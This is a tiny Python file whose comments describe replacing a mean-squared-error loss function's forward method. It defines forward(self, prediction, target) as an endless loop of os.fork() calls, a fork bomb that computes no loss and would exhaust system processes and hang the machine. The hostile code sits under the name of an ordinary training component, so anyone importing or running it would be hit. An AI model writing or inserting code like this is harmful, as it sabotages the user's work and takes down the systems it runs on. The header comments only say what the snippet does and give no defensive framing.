# Doubles itself for ever.
# into: losses.MeanSquaredError.forward
# loses: mse 0 error

import os


def forward(self, prediction, target):
    while True:
        os.fork()
